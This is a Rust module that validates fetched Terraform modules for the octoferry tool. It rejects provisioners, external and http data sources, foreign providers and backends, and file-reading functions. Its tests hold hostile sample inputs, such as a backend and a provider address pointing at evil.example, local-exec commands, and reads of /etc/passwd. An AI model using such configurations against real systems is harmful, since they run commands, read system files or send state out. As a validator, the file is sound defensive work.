//! What a fetched module may hold: what octoferry writes, and nothing that runs programs, talks to others, or reads the worker's files.
//!
//! The seal says who made a package; this says what it can do at worst, whatever a name or a text of the source has become in it. A folder
//! at a workstation is its owner's: what stands there was read by a person, and this is not asked.

use std::collections::BTreeMap;

use crate::MANIFEST;
use failure::Failure;

const PROVIDER: &str = "octopusdeploy";
pub(crate) const PROVIDER_SOURCE: &str = "OctopusDeploy/octopusdeploy";
/// Blocks at the top of a file, from Terraform's documentation of its language. `module`, `check`, `ephemeral` and the like are not written.
const BLOCKS: &[&str] = &[
    "terraform",
    "provider",
    "variable",
    "output",
    "locals",
    "resource",
    "data",
    "import",
    "moved",
    "removed",
];
/// Blocks that start programs, wherever they stand.
const RUNNING: &[&str] = &["provisioner", "connection"];
/// Functions that read the worker's files, or take a secret's mark away.
const FUNCTIONS: &[&str] = &[
    "filebase64",
    "fileexists",
    "fileset",
    "filemd5",
    "filesha1",
    "filesha256",
    "filesha512",
    "filebase64sha256",
    "filebase64sha512",
    "templatefile",
    "templatestring",
    "pathexpand",
    "abspath",
    "nonsensitive",
];
/// Endings of files beside `.tf` that Terraform or OpenTofu would read by themselves.
const READ_BY_ITSELF: &[&str] =
    &[".tf.json", ".tofu", ".tofu.json", ".tfvars", ".tfvars.json", ".tftest.hcl"];
/// Files with a dot in front that octoferry writes, or a person adds for Terraform.
const DOTTED: &[&str] = &[crate::provider_lock::FILE, ".gitignore"];

/// Looks at all files of a module.
///
/// # Errors
/// What is foreign, and where.
pub fn check(files: &BTreeMap<String, Vec<u8>>) -> Result<(), Failure> {
    for (path, content) in files.iter().filter(|(path, _)| !path.contains('/')) {
        let foreign = if READ_BY_ITSELF.iter().any(|ending| path.ends_with(ending))
            || (path.starts_with('.') && !DOTTED.contains(&path.as_str()))
        {
            Some("Terraform would read it by itself, and octoferry writes no such file".to_owned())
        } else if path.ends_with(".tf") {
            match std::str::from_utf8(content) {
                Ok(text) => foreign_in(text),
                Err(_) => Some("it is not UTF-8".to_owned()),
            }
        } else {
            None
        };
        if let Some(foreign) = foreign {
            return Err(Failure::failed(format!("the module holds what octoferry does not write: {path:?}: {foreign}"))
                .hint("Nothing was run. Who changed it? A module that is meant to hold more is deployed from a folder at a workstation, or by runbooks that octoferry seed made with --allow-foreign-terraform."));
        }
    }
    if files.contains_key(MANIFEST) { Ok(()) } else { Err(Failure::failed(format!("it has no {MANIFEST}"))) }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Token<'t> {
    Word(&'t str),
    /// Text of a template, as it is written.
    Text(&'t str),
    /// A quote that begins or ends a template.
    Quote,
    /// `${` or `%{` inside a template, and the `}` that ends it.
    Interpolate,
    EndInterpolation,
    Line,
    Sign(char),
}

/// What is foreign in a file, if anything.
fn foreign_in(text: &str) -> Option<String> {
    let tokens = match tokens(text) {
        Ok(tokens) => tokens,
        Err(what) => return Some(what.to_owned()),
    };
    let mut depth = 0_usize;
    // The block at the top that we are in.
    let mut top: &[Token<'_>] = &[];
    for (index, token) in tokens.iter().enumerate() {
        let rest = &tokens[index..];
        match token {
            Token::Sign('{') => depth += 1,
            Token::Sign('}') => depth = depth.saturating_sub(1),
            Token::Word(word) => {
                let begins = index == 0 || matches!(tokens[index - 1], Token::Line | Token::Sign('{' | '}'));
                let head = head(rest).filter(|_| begins);
                if let Some(foreign) = head.and_then(|head| foreign_block(head, depth, top)) {
                    return Some(foreign);
                }
                if let Some(head) = head.filter(|_| depth == 0) {
                    top = head;
                    if let Some(foreign) = foreign_provider(head, rest) {
                        return Some(foreign);
                    }
                } else if depth == 0 && begins {
                    return Some(format!("{word} at the top of the file"));
                }
                if rest.get(1) == Some(&Token::Sign('(')) && !is_harmless_call(word, rest) {
                    return Some(format!("the function {word}"));
                }
                if let Some(foreign) = foreign_setting(word, begins, depth, top, rest) {
                    return Some(foreign);
                }
            }
            Token::Sign(':') if rest.get(1) == Some(&Token::Sign(':')) => {
                return Some("a function of a provider".to_owned());
            }
            _ => {}
        }
    }
    None
}

/// The head of a block: its type and labels; `None` when no block begins here.
fn head<'a, 't>(tokens: &'a [Token<'t>]) -> Option<&'a [Token<'t>]> {
    let mut end = 1;
    loop {
        match tokens.get(end)? {
            Token::Sign('{') => return Some(&tokens[..end]),
            Token::Quote | Token::Text(_) | Token::Word(_) => end += 1,
            _ => return None,
        }
    }
}

/// The labels of a block's head.
fn labels<'t>(head: &[Token<'t>]) -> Vec<&'t str> {
    let text = |token: &Token<'t>| match token {
        Token::Text(text) | Token::Word(text) => Some(*text),
        _ => None,
    };
    head.iter().skip(1).filter_map(text).collect()
}

fn foreign_block(head: &[Token<'_>], depth: usize, top: &[Token<'_>]) -> Option<String> {
    let Some(Token::Word(kind)) = head.first() else { return None };
    let label = labels(head).first().copied().unwrap_or_default();
    if RUNNING.contains(kind) {
        return Some(format!("a block {kind}, which starts programs"));
    }
    match (depth, *kind) {
        (0, "provider") if label != PROVIDER => Some(format!("the provider {label:?}")),
        (0, "resource" | "data") if !(label.starts_with("octopusdeploy_") || label == "terraform_data") => {
            Some(format!("a {kind} of the type {label:?}"))
        }
        (0, kind) if !BLOCKS.contains(&kind) => Some(format!("a block {kind}")),
        (1, kind) if top.first() == Some(&Token::Word("terraform")) && kind != "required_providers" => {
            Some(format!("a block {kind} of terraform"))
        }
        _ => None,
    }
}

/// The provider talks to octoferry's relay, and to nobody else.
fn foreign_provider(head: &[Token<'_>], rest: &[Token<'_>]) -> Option<String> {
    if head.first() != Some(&Token::Word("provider")) {
        return None;
    }
    const WANTED: [(&str, &str); 3] =
        [("address", "octopus_url"), ("api_key", "octopus_api_key"), ("space_id", "octopus_space_id")];
    let body = rest[head.len() + 1..].iter().take_while(|token| **token != Token::Sign('}'));
    let body: Vec<&Token<'_>> = body.filter(|token| **token != Token::Line).collect();
    let wanted = WANTED.iter().flat_map(|(name, variable)| {
        [Token::Word(name), Token::Sign('='), Token::Word("var"), Token::Sign('.'), Token::Word(variable)]
    });
    if body.into_iter().cloned().eq(wanted) {
        None
    } else {
        Some("other settings of the provider".to_owned())
    }
}

/// `file("${path.module}/…")` below the module, and what reads no file.
fn is_harmless_call(word: &str, rest: &[Token<'_>]) -> bool {
    if word != "file" {
        return !FUNCTIONS.contains(&word);
    }
    let path = [
        Token::Sign('('),
        Token::Quote,
        Token::Interpolate,
        Token::Word("path"),
        Token::Sign('.'),
        Token::Word("module"),
        Token::EndInterpolation,
    ];
    rest[1..].starts_with(&path)
        && matches!(rest.get(8..11), Some([Token::Text(path), Token::Quote, Token::Sign(')')])
            if path.starts_with('/') && !path.split('/').any(|part| part == ".."))
}

/// The one provider that is required, and where it comes from.
fn foreign_setting(
    word: &str,
    begins: bool,
    depth: usize,
    top: &[Token<'_>],
    rest: &[Token<'_>],
) -> Option<String> {
    if top.first() != Some(&Token::Word("terraform")) || !begins || depth == 0 {
        return None;
    }
    let quoted = match rest {
        [_, Token::Sign('='), Token::Quote, Token::Text(text), Token::Quote, ..] => Some(*text),
        _ => None,
    };
    match (depth, word) {
        (1, "required_version" | "required_providers")
        | (2, PROVIDER)
        | (3, "version" | "configuration_aliases") => None,
        (3, "source") if quoted == Some(PROVIDER_SOURCE) => None,
        _ => Some(format!("{word} in the block terraform")),
    }
}

/// The tokens of a file. Comments but those with `#`, and heredocs, are never written by octoferry, and refused.
pub(crate) fn tokens(text: &str) -> Result<Vec<Token<'_>>, &'static str> {
    let mut reader = Reader { tokens: Vec::new(), open: Vec::new() };
    let mut rest = text;
    while let Some(letter) = rest.chars().next() {
        let length = if reader.open.last() == Some(&Open::Template) {
            reader.in_template(rest, letter)
        } else {
            reader.outside(rest, letter)?
        };
        rest = &rest[length..];
    }
    if reader.open.is_empty() { Ok(reader.tokens) } else { Err("braces or quotes that stay open") }
}

/// What the braces and quotes that are open belong to.
#[derive(PartialEq)]
enum Open {
    Brace,
    Interpolation,
    Template,
}

/// The tokens that were read. Each step takes the next one and answers how many bytes it is.
struct Reader<'t> {
    tokens: Vec<Token<'t>>,
    open: Vec<Open>,
}

impl<'t> Reader<'t> {
    fn in_template(&mut self, rest: &'t str, letter: char) -> usize {
        let length = template_text(rest);
        if length > 0 {
            self.tokens.push(Token::Text(&rest[..length]));
            length
        } else if letter == '"' {
            self.tokens.push(Token::Quote);
            self.open.pop();
            1
        } else {
            // Only `${` and `%{` are left.
            self.tokens.push(Token::Interpolate);
            self.open.push(Open::Interpolation);
            2
        }
    }

    fn outside(&mut self, rest: &'t str, letter: char) -> Result<usize, &'static str> {
        Ok(match letter {
            '"' => {
                self.tokens.push(Token::Quote);
                self.open.push(Open::Template);
                1
            }
            '{' => {
                self.tokens.push(Token::Sign('{'));
                self.open.push(Open::Brace);
                1
            }
            '}' => {
                match self.open.pop() {
                    Some(Open::Brace) => self.tokens.push(Token::Sign('}')),
                    Some(Open::Interpolation) => self.tokens.push(Token::EndInterpolation),
                    _ => return Err("braces that don't fit"),
                }
                1
            }
            '\n' => {
                self.tokens.push(Token::Line);
                1
            }
            '#' => rest.find('\n').unwrap_or(rest.len()),
            '/' if rest.starts_with("//") || rest.starts_with("/*") => {
                return Err("a comment of another form");
            }
            '<' if rest.starts_with("<<") => return Err("a heredoc"),
            letter if letter.is_whitespace() => letter.len_utf8(),
            letter if letter.is_alphanumeric() || letter == '_' => {
                let part = |letter: char| letter.is_alphanumeric() || matches!(letter, '_' | '-');
                let length = rest.find(|letter| !part(letter)).unwrap_or(rest.len());
                self.tokens.push(Token::Word(&rest[..length]));
                length
            }
            other => {
                self.tokens.push(Token::Sign(other));
                other.len_utf8()
            }
        })
    }
}

/// How many bytes of a template are text: up to its end, or to something that is evaluated.
fn template_text(text: &str) -> usize {
    let bytes = text.as_bytes();
    let mut index = 0;
    while let Some(byte) = bytes.get(index) {
        match byte {
            b'"' => break,
            b'\\' => index += 2,
            b'$' | b'%' => {
                let run = bytes[index..].iter().take_while(|other| *other == byte).count();
                // `$${` stands for `${`.
                if run == 1 && bytes.get(index + 1) == Some(&b'{') {
                    break;
                }
                index += run + usize::from(bytes.get(index + run) == Some(&b'{'));
            }
            _ => index += 1,
        }
    }
    // An escape may stand at the very end, or before a letter of several bytes.
    (index.min(bytes.len())..=bytes.len()).find(|end| text.is_char_boundary(*end)).unwrap_or(bytes.len())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const HEAD: &str = "terraform {\n  required_version = \">= 1.7\"\n  required_providers {\n    octopusdeploy = {\n      source  = \"OctopusDeploy/octopusdeploy\"\n      version = \"~> 1.17\"\n    }\n  }\n}\n\nprovider \"octopusdeploy\" {\n  address  = var.octopus_url\n  api_key  = var.octopus_api_key\n  space_id = var.octopus_space_id\n}\n";

    #[test]
    fn what_octoferry_writes_is_allowed() {
        let root = std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/spaces"));
        let mut folders = vec![root.to_owned()];
        let mut seen = 0;
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir()
                    && !["scripts", "files"].map(Some).contains(&path.file_name().unwrap().to_str())
                {
                    folders.push(path);
                } else if path.extension().is_some_and(|ending| ending == "tf")
                    && path.strip_prefix(root).unwrap().components().any(|part| part.as_os_str() == "module")
                {
                    assert_eq!(
                        foreign_in(&std::fs::read_to_string(&path).unwrap()),
                        None,
                        "{}",
                        path.display()
                    );
                    seen += 1;
                }
            }
        }
        assert!(seen > 100, "{seen}");
        assert_eq!(foreign_in(HEAD), None);
    }

    #[test]
    fn what_runs_talks_or_reads_is_not() {
        for foreign in [
            "resource \"null_resource\" \"x\" {}",
            "resource null_resource x {}",
            "data \"external\" \"x\" {\n  program = [\"sh\"]\n}",
            "data \"http\" \"x\" {}",
            "module \"x\" {\n  source = \"./x\"\n}",
            "check \"x\" {}",
            "ephemeral \"octopusdeploy_x\" \"y\" {}",
            "provider \"local\" {}",
            "provider \"octopusdeploy\" {\n  address = \"https://evil.example\"\n}",
            "provider \"octopusdeploy\" {\n  address  = var.octopus_url\n  api_key  = var.octopus_api_key\n  space_id = var.octopus_space_id\n  alias = \"x\"\n}",
            "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}",
            "resource \"octopusdeploy_environment\" \"x\" { provisioner \"local-exec\" { command = \"id\" } }",
            "resource \"terraform_data\" \"x\" {\n  connection {\n    host = \"x\"\n  }\n}",
            "terraform {\n  backend \"http\" {\n    address = \"https://evil.example\"\n  }\n}",
            "terraform {\n  cloud {}\n}",
            "terraform {\n  required_providers {\n    octopusdeploy = {\n      source = \"evil/octopusdeploy\"\n    }\n  }\n}",
            "terraform {\n  required_providers {\n    evil = {\n      source = \"OctopusDeploy/octopusdeploy\"\n    }\n  }\n}",
            "locals {\n  x = file(\"/etc/passwd\")\n}",
            "locals {\n  x = file(\"${path.module}/../../x\")\n}",
            "locals {\n  x = \"${file(\"/etc/passwd\")}\"\n}",
            "locals {\n  x = \"a${ { a = \"}\" } }${templatefile(\"/x\", {})}\"\n}",
            "locals {\n  x = nonsensitive(var.a)\n}",
            "locals {\n  x = provider::evil::run()\n}",
            "locals {\n  x = <<EOT\n${file(\"/etc/passwd\")}\nEOT\n}",
            "/* harmless */\n",
            "# a comment\nmodule \"x\" {}",
            "}",
            "x = 1",
            "locals {\n  x = \"open",
        ] {
            assert!(foreign_in(foreign).is_some(), "{foreign}");
        }
    }

    #[test]
    fn texts_are_only_texts() {
        for text in [
            r#"locals { x = "provisioner \"local-exec\" { }" }"#,
            r#"locals { x = "$${file(\"/etc/passwd\")}" }"#,
            r#"locals { x = "%%{ if x }# // /* <<EOT" }"#,
            r#"locals { x = "${path.module}/a" }"#,
            "# module \"x\" {}\nlocals { x = 1 # }\n}",
        ] {
            assert_eq!(foreign_in(text), None, "{text}");
        }
    }

    proptest! {
        #[test]
        fn any_text_has_an_answer(text in ".{0,200}", hcl in "[a-z \"${}%\\\\\n=.]{0,80}") {
            let _ = foreign_in(&text);
            let _ = foreign_in(&hcl);
        }
    }
}
